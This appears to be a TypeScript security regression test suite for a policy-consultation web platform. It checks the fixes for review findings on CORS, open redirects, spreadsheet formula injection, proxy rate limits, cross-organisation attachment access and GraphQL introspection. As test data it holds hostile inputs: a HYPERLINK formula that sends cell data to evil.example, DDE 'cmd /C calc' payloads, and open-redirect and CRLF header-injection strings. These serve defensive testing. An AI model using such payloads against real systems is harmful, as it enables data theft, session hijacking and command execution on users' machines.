/**
 * What a security review of a running demo found at the HTTP edge, kept closed: cross-origin reads of /graphql (CORS
 * from an allow-list only), open redirects after sign-in, formulas in the comment exports, one rate-limit bucket for
 * every visitor behind a proxy, attachments cited across organisations, and a production install that answered
 * introspection and kept its data world-readable. Everything goes over HTTP to real servers.
 */
import { createHash, randomUUID } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPlatform, type Platform } from '../support/platform';
import {
  ERROR_FIELDS,
  client,
  demoAccount,
  expectRefusal,
  ok,
  openPolicy,
  signIn,
  signInAs,
  signUp,
  staffOrganizationId,
  stopPlatform,
  submitComment,
  type Client,
  type ResultUnion,
} from './support';

interface HttpAnswer {
  status: number;
  headers: http.IncomingHttpHeaders;
  text: string;
}

/**
 * One HTTP request with full control of its headers (Origin, X-Forwarded-For) and of the address it comes from
 * (`localAddress`: 127.0.0.2 plays a proxy in front of the server, 127.0.0.3 a stranger).
 */
function request(
  baseUrl: string,
  o: { method?: string; path: string; headers?: Record<string, string>; body?: string; localAddress?: string },
): Promise<HttpAnswer> {
  return new Promise((resolve, reject) => {
    const url = new URL(o.path, baseUrl);
    const req = http.request(
      url,
      {
        method: o.method ?? 'GET',
        headers: {
          ...(o.body !== undefined ? { 'content-length': String(Buffer.byteLength(o.body)) } : {}),
          ...o.headers,
        },
        ...(o.localAddress ? { localAddress: o.localAddress } : {}),
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, text: Buffer.concat(chunks).toString('utf8') }),
        );
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    if (o.body !== undefined) req.write(o.body);
    req.end();
  });
}

/**
 * Runs `start` with this process's umask set to `mask`: a server spawned meanwhile inherits it. With 0, every file
 * the server creates without choosing its mode would be readable and writable by anyone.
 */
async function withUmask<T>(mask: number, start: () => Promise<T>): Promise<T> {
  const before = process.umask(mask);
  try {
    return await start();
  } finally {
    process.umask(before);
  }
}

/** Every folder under the data folder (itself included) that is not 0700 and every file that is not 0600. */
function looseModes(dataDir: string): { checked: string[]; loose: string[] } {
  const checked: string[] = [];
  const loose: string[] = [];
  const visit = (full: string) => {
    const stat = fs.statSync(full);
    const mode = stat.mode & 0o777;
    const name = path.relative(dataDir, full) || '.';
    checked.push(name);
    if (mode !== (stat.isDirectory() ? 0o700 : 0o600)) loose.push(`${name} ${mode.toString(8)}`);
    if (stat.isDirectory()) for (const entry of fs.readdirSync(full)) visit(path.join(full, entry));
  };
  visit(dataDir);
  return { checked, loose };
}

const CORS_HEADERS = [
  'access-control-allow-origin',
  'access-control-allow-credentials',
  'access-control-allow-headers',
  'access-control-allow-methods',
];

const LISTED_ORIGIN = 'https://app.gopy.example';
const FOREIGN_ORIGIN = 'https://evil.example';

describe('the main demo platform', () => {
  let platform: Platform;

  beforeAll(async () => {
    platform = await withUmask(0, () =>
      startPlatform({ env: { GOPY_CORS_ORIGINS: `${LISTED_ORIGIN}, https://other.gopy.example` } }),
    );
  }, 180_000);

  afterAll(async () => {
    await stopPlatform(platform);
  });

  describe('finding 2: CORS only for the configured origins', () => {
    const viewerQuery = JSON.stringify({ query: '{ viewer { account { id } } }' });

    async function credentialedPost(origin: string, token: string) {
      return request(platform.baseUrl, {
        method: 'POST',
        path: '/graphql',
        headers: {
          origin,
          cookie: `gopy_session=${token}`,
          'content-type': 'application/json',
          'x-gopy-csrf': '1',
        },
        body: viewerQuery,
      });
    }
    async function preflight(origin: string) {
      return request(platform.baseUrl, {
        method: 'OPTIONS',
        path: '/graphql',
        headers: {
          origin,
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'content-type,x-gopy-csrf',
        },
      });
    }

    it('gives a foreign origin no CORS headers, with or without a session, and refuses its preflight', async () => {
      const participant = await signInAs(platform, 'participant');
      const answer = await credentialedPost(FOREIGN_ORIGIN, participant.token!);
      expect(answer.status).toBeLessThan(500);
      for (const name of CORS_HEADERS) expect(answer.headers[name], name).toBeUndefined();

      const pre = await preflight(FOREIGN_ORIGIN);
      expect(pre.status).toBeLessThan(500);
      for (const name of CORS_HEADERS) expect(pre.headers[name], name).toBeUndefined();

      // An origin that merely starts like a listed one is foreign too.
      const lookalike = await credentialedPost(`${LISTED_ORIGIN}.evil.example`, participant.token!);
      for (const name of CORS_HEADERS) expect(lookalike.headers[name], name).toBeUndefined();
    });

    it('lets a listed origin read with credentials and send the CSRF header', async () => {
      const participant = await signInAs(platform, 'participant');
      const pre = await preflight(LISTED_ORIGIN);
      expect(pre.status).toBeLessThan(300);
      expect(pre.headers['access-control-allow-origin']).toBe(LISTED_ORIGIN);
      expect(pre.headers['access-control-allow-credentials']).toBe('true');
      expect(String(pre.headers['access-control-allow-headers']).toLowerCase()).toContain('x-gopy-csrf');

      const answer = await credentialedPost(LISTED_ORIGIN, participant.token!);
      expect(answer.status).toBe(200);
      expect(answer.headers['access-control-allow-origin']).toBe(LISTED_ORIGIN);
      expect(answer.headers['access-control-allow-credentials']).toBe('true');
      expect(JSON.parse(answer.text).data.viewer.account.id).toMatch(/^[0-9a-f-]{36}$/);
    });
  });

  describe('finding 3: redirects taken from input stay on this site', () => {
    const origin = () => new URL(platform.baseUrl).origin;

    function expectOnThisSite(answer: HttpAnswer, what: string): string {
      expect(answer.status, `${what}: HTTP ${answer.status} ${answer.text.slice(0, 200)}`).toBe(303);
      const location = answer.headers.location;
      expect(location, what).toBeDefined();
      // A path of this site: never scheme-relative, never a control character a browser would drop.
      expect(location, what).toMatch(/^\/(?![/\\])/);
      expect(
        [...location!].filter((c) => c < ' ' || c === '\x7f'),
        what,
      ).toEqual([]);
      expect(new URL(location!, platform.baseUrl).origin, `${what} → ${location}`).toBe(origin());
      return location!;
    }

    it("sends the report's link (redirectTo=%2F%09%2Fevil.example) to this site, and CR/LF is no 500", async () => {
      const participant = await signInAs(platform, 'participant');
      const cookie = `gopy_session=${participant.token}`;
      for (const query of [
        '%2F%09%2Fevil.example',
        '%2F%0D%0ALocation%3A%20https%3A%2F%2Fevil.example',
        '%2F%0Aevil',
      ]) {
        const answer = await request(platform.baseUrl, { path: `/sign-in?redirectTo=${query}`, headers: { cookie } });
        expectOnThisSite(answer, query);
      }
    });

    it('sends a signed-in reader of /sign-in to this site whatever redirectTo holds', async () => {
      const participant = await signInAs(platform, 'participant');
      const cookie = `gopy_session=${participant.token}`;
      for (const target of NASTY_TARGETS) {
        const answer = await request(platform.baseUrl, {
          path: `/sign-in?redirectTo=${encodeURIComponent(target)}`,
          headers: { cookie },
        });
        expectOnThisSite(answer, JSON.stringify(target));
      }
    });

    it('offers a signed-out reader only a safe target in the sign-in form', async () => {
      for (const target of NASTY_TARGETS) {
        const answer = await request(platform.baseUrl, { path: `/sign-in?redirectTo=${encodeURIComponent(target)}` });
        expect(answer.status, JSON.stringify(target)).toBe(200);
        // The sign-in form's own field (the page's header holds the language switch's, which names this page).
        const form = answer.text.slice(answer.text.indexOf('id="page-heading"'));
        const value = /name="redirectTo" value="([^"]*)"/.exec(form)?.[1];
        expect(value, JSON.stringify(target)).toBeDefined();
        const decoded = value!
          .replace(/&amp;/g, '&')
          .replace(/&quot;/g, '"')
          .replace(/&lt;/g, '<')
          .replace(/&#39;/g, "'");
        expect(decoded, JSON.stringify(target)).toMatch(/^\/(?![/\\])/);
        expect(new URL(decoded, platform.baseUrl).origin).toBe(origin());
      }
    });

    it('sends the reader to this site after signing in through the form, whatever redirectTo holds', async () => {
      const account = demoAccount(platform, 'participant');
      // A few of the worst: the sign-in limit per email allows 20 a minute.
      for (const target of [
        '/\t/evil.example',
        '/\\evil.example',
        '/.//evil.example',
        '/\r\nX: y',
        'javascript:alert(1)',
      ]) {
        const answer = await formPost(platform.baseUrl, '/sign-in', {
          email: account.email,
          password: account.password,
          redirectTo: target,
        });
        expectOnThisSite(answer, JSON.stringify(target));
        expect(String(answer.headers['set-cookie'])).toContain('gopy_session=');
      }
      const kept = await formPost(platform.baseUrl, '/sign-in', {
        email: account.email,
        password: account.password,
        redirectTo: '/me/comments?after=abc#top',
      });
      expect(expectOnThisSite(kept, 'a path of this site')).toBe('/me/comments?after=abc#top');
    });

    it('sends the language switch back to this site whatever redirectTo holds', async () => {
      for (const target of NASTY_TARGETS) {
        const answer = await formPost(platform.baseUrl, '/language', { locale: 'en', redirectTo: target });
        expectOnThisSite(answer, JSON.stringify(target));
      }
    });
  });

  describe('finding 5: the comment exports escape formulas', () => {
    // What a participant can type (the API trims leading whitespace, so a tab or CR never starts a stored body; the
    // unit test services/api/src/exports/formulas.unit.test.ts covers those two).
    const BODIES = [
      '=HYPERLINK("https://evil.example/?x="&A1;"Xem dự thảo đầy đủ")',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C notepad'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    let staff: Client;
    let policyId: string;

    beforeAll(async () => {
      staff = await signInAs(platform, 'staff');
      policyId = (await openPolicy(staff, await staffOrganizationId(staff))).id;
      const participant = await signInAs(platform, 'participant');
      for (const body of BODIES) ok(await submitComment(participant, { policyId, body, stance: 'OPPOSE' }));
    });

    async function download(file: string): Promise<Buffer> {
      const res = await fetch(`${platform.baseUrl}/export/policies/${policyId}/rounds/1/${file}`, {
        headers: { authorization: `Bearer ${staff.token}` },
      });
      expect(res.status).toBe(200);
      return Buffer.from(await res.arrayBuffer());
    }

    it('writes each body that starts with =, +, - or @ into comments.csv behind an apostrophe', async () => {
      const rows = (
        parseCsv(await download('comments.csv'), { bom: true, relax_column_count: true }) as string[][]
      ).slice(2);
      expect(rows.map((r) => r[11])).toEqual(BODIES.map((body) => `'${body}`));
    });

    it('writes them into comments.xlsx unchanged, as string cells, never as formulas', async () => {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await download('comments.xlsx')) as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0]!;
      BODIES.forEach((body, i) => {
        const cell = sheet.getRow(i + 3).getCell(12);
        expect(cell.type, body).toBe(ExcelJS.ValueType.String);
        expect(cell.formula, body).toBeUndefined();
        expect(cell.value).toBe(body);
      });
    });
  });

  describe('finding 9: an attachment belongs to the organisation that uploaded it', () => {
    const OFFLINE = `mutation($input: RecordOfflineFeedbackInput!) { recordOfflineFeedback(input: $input) { ${ERROR_FIELDS} ... on MutationRecordOfflineFeedbackSuccess { data { comment { id attachments { id sha256 url } } } } } }`;
    const ATTACH_DOCUMENT = `mutation($policyId: ID!, $file: AttachmentInput!) { attachVersionDocument(policyId: $policyId, version: 1, kind: OTHER, title: "Phụ lục", file: $file) { ${ERROR_FIELDS} ... on MutationAttachVersionDocumentSuccess { data { document { id } } } } }`;
    // A private scan of the district office's (unique per run, so no other test uploaded it).
    const SCAN = Buffer.from(
      `%PDF-1.4\n%%EOF\nThư riêng của phụ huynh Nguyễn Văn An, 0912 345 678 (${randomUUID()})`,
      'utf8',
    );
    let district: Client;
    let school: Client;
    let sha256: string;
    let scanUrl: string;
    let schoolPolicy: { id: string; opensAt: string };

    async function upload(who: Client, bytes: Buffer): Promise<string> {
      const res = await fetch(`${platform.baseUrl}/attachments`, {
        method: 'POST',
        headers: { 'content-type': 'application/pdf', authorization: `Bearer ${who.token}` },
        body: new Uint8Array(bytes),
      });
      expect(res.status).toBe(201);
      return ((await res.json()) as { sha256: string }).sha256;
    }
    function letter(policyId: string, receivedAt: string, hash: string) {
      return {
        policyId,
        channel: 'LETTER',
        receivedAt,
        stakeholderCategory: 'PARENT',
        body: 'Thư góp ý gửi kèm bản quét.',
        stance: 'SUGGESTION',
        idempotencyKey: randomUUID(),
        attachments: [{ sha256: hash, fileName: 'thu.pdf', mediaType: 'application/pdf' }],
      };
    }
    async function get(who: Client | null, url: string) {
      const res = await fetch(`${platform.baseUrl}${url}`, {
        headers: who?.token ? { authorization: `Bearer ${who.token}` } : {},
      });
      return { status: res.status, type: res.headers.get('content-type'), body: await res.text() };
    }

    beforeAll(async () => {
      district = await signInAs(platform, 'staff');
      const districtPolicy = await openPolicy(district, await staffOrganizationId(district));
      sha256 = await upload(district, SCAN);
      const recorded = await district.gql<{ recordOfflineFeedback: ResultUnion }>(OFFLINE, {
        input: letter(districtPolicy.id, districtPolicy.currentRound!.opensAt, sha256),
      });
      scanUrl = ok<{ comment: { attachments: { url: string }[] } }>(recorded.recordOfflineFeedback).comment
        .attachments[0]!.url;
      const schoolAccount = platform.demoAccounts.find((a) => a.email.startsWith('school1@'))!;
      school = await signIn(platform, schoolAccount.email, schoolAccount.password);
      const opened = await openPolicy(school, await staffOrganizationId(school));
      schoolPolicy = { id: opened.id, opensAt: opened.currentRound!.opensAt };
    });

    it("refuses another organisation's citation of the hash exactly as a hash nobody uploaded", async () => {
      const cite = async (hash: string) =>
        (
          await school.gql<{ recordOfflineFeedback: ResultUnion }>(OFFLINE, {
            input: letter(schoolPolicy.id, schoolPolicy.opensAt, hash),
          })
        ).recordOfflineFeedback;
      const stolen = await cite(sha256);
      expectRefusal(stolen, { typename: 'ValidationError', code: 'VALIDATION', field: 'attachments[0].sha256' });
      expect(stolen).toEqual(await cite(createHash('sha256').update(randomUUID()).digest('hex')));

      const attach = async (hash: string) =>
        (
          await school.gql<{ attachVersionDocument: ResultUnion }>(ATTACH_DOCUMENT, {
            policyId: schoolPolicy.id,
            file: { sha256: hash, fileName: 'phu-luc.pdf', mediaType: 'application/pdf' },
          })
        ).attachVersionDocument;
      const asDocument = await attach(sha256);
      expectRefusal(asDocument, { typename: 'ValidationError', code: 'VALIDATION', field: 'attachments[0].sha256' });
      expect(asDocument).toEqual(await attach('d'.repeat(64)));
    });

    it('answers a download the reader may not make exactly as a download of nothing', async () => {
      const missing = await get(school, `/attachments/${randomUUID()}`);
      expect(missing.status).toBe(404);
      const participant = await signInAs(platform, 'participant');
      for (const [who, reader] of [
        ['staff of another organisation', school],
        ['a participant', participant],
        ['nobody signed in', null],
      ] as const) {
        const refused = await get(reader, scanUrl);
        expect({ status: refused.status, type: refused.type, body: refused.body }, who).toEqual(missing);
      }
      const own = await get(district, scanUrl);
      expect(own.status).toBe(200);
    });

    it('lets the other organisation cite the file once it has uploaded the same bytes itself', async () => {
      expect(await upload(school, SCAN)).toBe(sha256);
      const recorded = await school.gql<{ recordOfflineFeedback: ResultUnion }>(OFFLINE, {
        input: letter(schoolPolicy.id, schoolPolicy.opensAt, sha256),
      });
      const url = ok<{ comment: { attachments: { url: string }[] } }>(recorded.recordOfflineFeedback).comment
        .attachments[0]!.url;
      expect((await get(school, url)).status).toBe(200);
      // Its upload gave it its own copy to cite, not the district's letter: that one stays the district's.
      expect((await get(school, scanUrl)).status).toBe(404);
    });
  });

  describe('finding 14: the data folder is private, whatever the umask', () => {
    it('keeps every folder 0700 and every file 0600, the SQLite -wal and -shm files, mails and blobs included', async () => {
      // A few more writes: an account (auth.sqlite, the log, a key, a mail) and a file (blobs).
      await signUp(platform);
      const staff = await signInAs(platform, 'staff');
      const uploaded = await fetch(`${platform.baseUrl}/attachments`, {
        method: 'POST',
        headers: { 'content-type': 'text/plain', authorization: `Bearer ${staff.token}` },
        body: `Biên bản họp phụ huynh ${randomUUID()}`,
      });
      expect(uploaded.status).toBe(201);
      const { checked, loose } = looseModes(platform.dataDir);
      for (const file of [
        'events.sqlite-wal',
        'read.sqlite-wal',
        'auth.sqlite-wal',
        'keys.sqlite-wal',
        'mail',
        'blobs',
      ])
        expect(checked, file).toContain(file);
      expect(checked.some((f) => f.endsWith('.eml'))).toBe(true);
      expect(checked.some((f) => f.startsWith('blobs/') && f.endsWith('.owners'))).toBe(true);
      expect(loose).toEqual([]);
    });
  });
});

/** A form post to the site, as a browser on this site's page sends it (SvelteKit refuses cross-site form posts). */
function formPost(
  baseUrl: string,
  path: string,
  fields: Record<string, string>,
  o: { headers?: Record<string, string>; localAddress?: string } = {},
): Promise<HttpAnswer> {
  return request(baseUrl, {
    method: 'POST',
    path,
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      accept: 'text/html,application/xhtml+xml',
      origin: baseUrl,
      ...o.headers,
    },
    body: new URLSearchParams(fields).toString(),
    ...(o.localAddress ? { localAddress: o.localAddress } : {}),
  });
}

/**
 * Redirect targets an attacker would try, as the server receives them (already decoded from the query or the form):
 * browsers drop tabs and newlines inside URLs and read a backslash as a slash, so each of these may leave the site.
 */
const NASTY_TARGETS = [
  '/\t/evil.example',
  '/\t\t//evil.example',
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '/\\/evil.example',
  '\\\\evil.example',
  '\\/evil.example',
  ' //evil.example',
  '\t//evil.example',
  '/.//evil.example',
  '/./\\evil.example',
  '//%65vil.example',
  '/%2F%2Fevil.example',
  '%2F%2Fevil.example',
  'https://evil.example/',
  'https:evil.example',
  'HTTP://evil.example',
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '/\r\nLocation: https://evil.example',
  '/\nSet-Cookie: gopy_session=stolen',
  '/x\rSet-Cookie: a=b',
  '/\u0000/evil.example',
];

describe('a platform with the default configuration', () => {
  let platform: Platform;

  beforeAll(async () => {
    platform = await startPlatform({ demo: false });
  }, 180_000);

  afterAll(async () => {
    await stopPlatform(platform);
  });

  it('finding 2: answers no origin with CORS headers when GOPY_CORS_ORIGINS is unset (same origin only)', async () => {
    for (const origin of [LISTED_ORIGIN, FOREIGN_ORIGIN, platform.baseUrl]) {
      const pre = await request(platform.baseUrl, {
        method: 'OPTIONS',
        path: '/graphql',
        headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
      });
      for (const name of CORS_HEADERS) expect(pre.headers[name], `${origin} ${name}`).toBeUndefined();
      const post = await request(platform.baseUrl, {
        method: 'POST',
        path: '/graphql',
        headers: { origin, 'content-type': 'application/json' },
        body: JSON.stringify({ query: '{ __typename }' }),
      });
      expect(post.status).toBe(200);
      for (const name of CORS_HEADERS) expect(post.headers[name], `${origin} ${name}`).toBeUndefined();
    }
  });
});

describe('finding 7: behind a proxy, each visitor of the site has a rate-limit bucket of its own', () => {
  // 127.0.0.2 is the trusted proxy; 127.0.0.3 is a stranger whose X-Forwarded-For must count for nothing. The site's
  // own calls to /graphql come from 127.0.0.1, which this configuration does not trust as a proxy.
  const PROXY = '127.0.0.2';
  const STRANGER = '127.0.0.3';
  const PER_ADDRESS = 6; // GOPY_RATE_SIGNINS_PER_MINUTE=2, ×3 per address
  let platform: Platform;

  beforeAll(async () => {
    platform = await startPlatform({ env: { GOPY_TRUST_PROXY: PROXY, GOPY_RATE_SIGNINS_PER_MINUTE: '2' } });
  }, 180_000);

  afterAll(async () => {
    await stopPlatform(platform);
  });

  /** Signs in through the site's own form (not /graphql), from `from`, naming `forwardedFor` as the client. */
  function signInThroughSite(from: string, forwardedFor: string, email: string, password: string) {
    return formPost(
      platform.baseUrl,
      '/sign-in',
      { email, password, redirectTo: '/' },
      { localAddress: from, headers: { 'x-forwarded-for': forwardedFor } },
    );
  }

  /** Fails sign-ins (each with another unknown email, so only the address counts) until the limit answers. */
  async function exhaust(from: string, forwardedFor: string): Promise<void> {
    for (let i = 0; i < PER_ADDRESS; i++) {
      const failed = await signInThroughSite(
        from,
        forwardedFor,
        `khong-co-${i}-${Date.now()}@example.vn`,
        'sai-mat-khau',
      );
      expect(failed.status, `attempt ${i + 1}`).toBe(401);
    }
    const limited = await signInThroughSite(from, forwardedFor, `khong-co-x-${Date.now()}@example.vn`, 'sai-mat-khau');
    expect(limited.status).toBe(429);
  }

  it("gives two clients behind the trusted proxy separate buckets: one's failures never lock the other out", async () => {
    await exhaust(PROXY, '203.0.113.10');
    const account = demoAccount(platform, 'participant');
    const other = await signInThroughSite(PROXY, '203.0.113.20', account.email, account.password);
    expect(other.status, other.text.slice(0, 300)).toBe(303);
    expect(other.headers.location).toBe('/');
    // The first client is still held back.
    const again = await signInThroughSite(PROXY, '203.0.113.10', account.email, account.password);
    expect(again.status).toBe(429);
  });

  it('ignores X-Forwarded-For from a peer that is not a trusted proxy: all it names share its bucket', async () => {
    await exhaust(STRANGER, '198.51.100.1');
    const account = demoAccount(platform, 'staff');
    const renamed = await signInThroughSite(STRANGER, '198.51.100.2', account.email, account.password);
    expect(renamed.status).toBe(429);
    // The same account signs in from elsewhere: the limit held the address, not the account.
    const elsewhere = await signInThroughSite(PROXY, '203.0.113.30', account.email, account.password);
    expect(elsewhere.status).toBe(303);
  });
});

describe('finding 14: a production install (GOPY_DEMO=0) answers no introspection and no suggestions', () => {
  let platform: Platform;

  beforeAll(async () => {
    platform = await withUmask(0, () => startPlatform({ demo: false }));
  }, 180_000);

  afterAll(async () => {
    await stopPlatform(platform);
  });

  it('refuses __schema and __type as request errors, and still answers __typename', async () => {
    const api = client(platform.baseUrl);
    // Refused as any invalid request is (an unknown field), before anything runs.
    const invalid = (await api.raw('{ noSuchField }')).errors?.[0]?.extensions?.code;
    expect(invalid).toMatch(/VALIDATION/);
    for (const query of [
      '{ __schema { queryType { name } } }',
      '{ __type(name: "Policy") { name fields { name } } }',
    ]) {
      const res = await api.raw(query);
      expect(res.data?.__schema ?? res.data?.__type, query).toBeUndefined();
      expect(res.errors?.[0]?.extensions?.code, query).toBe(invalid);
      expect(res.errors?.[0]?.message, query).toMatch(/introspection/i);
    }
    expect((await api.gql<{ __typename: string }>('{ __typename }')).__typename).toBe('Query');
  });

  it('names no field, argument, type or value in its error messages', async () => {
    const messages = await typoMessages(platform.baseUrl);
    expect(messages).toHaveLength(TYPOS.length);
    for (const message of messages) expect(message).not.toMatch(/did you mean|\[Suggestion/i);
  });

  it('keeps its data folder private too (a fresh install: the store, the keys, the sessions, a mail)', async () => {
    await signUp(platform);
    const { checked, loose } = looseModes(platform.dataDir);
    for (const file of ['events.sqlite', 'events.sqlite-wal', 'events.sqlite-shm', 'auth.sqlite', 'secrets.json'])
      expect(checked, file).toContain(file);
    expect(loose).toEqual([]);
  });
});

describe('finding 14: GOPY_GRAPHQL_INTROSPECTION=1 opens introspection and suggestions outside demo mode', () => {
  let platform: Platform;

  beforeAll(async () => {
    platform = await startPlatform({ demo: false, env: { GOPY_GRAPHQL_INTROSPECTION: '1' } });
  }, 180_000);

  afterAll(async () => {
    await stopPlatform(platform);
  });

  it('answers __schema and suggests what was meant', async () => {
    const { __schema } = await client(platform.baseUrl).gql<{ __schema: { queryType: { name: string } } }>(
      '{ __schema { queryType { name } } }',
    );
    expect(__schema.queryType.name).toBe('Query');
    const messages = await typoMessages(platform.baseUrl);
    expect(messages.filter((m) => /Did you mean/.test(m))).toHaveLength(TYPOS.length);
  });
});

/** Requests with a typo each, whose error message graphql-js completes with "Did you mean …?" when allowed. */
const TYPOS: { query: string; variables?: Record<string, unknown> }[] = [
  { query: '{ policie(first: 1) { totalCount } }' },
  { query: '{ policies(statu: CONSULTATION) { totalCount } }' },
  { query: '{ policies(status: CONSULTATON) { totalCount } }' },
  { query: 'query($s: PolicyStatu) { policies(status: $s) { totalCount } }' },
  // Coerced while executing, not while validating.
  { query: 'query($s: PolicyStatus) { policies(status: $s) { totalCount } }', variables: { s: 'CONSULTATON' } },
];

async function typoMessages(baseUrl: string): Promise<string[]> {
  const api = client(baseUrl);
  const messages: string[] = [];
  for (const { query, variables } of TYPOS) {
    const res = await api.raw(query, variables);
    expect(res.errors?.length, query).toBeGreaterThan(0);
    messages.push(res.errors!.map((e) => e.message).join(' | '));
  }
  return messages;
}
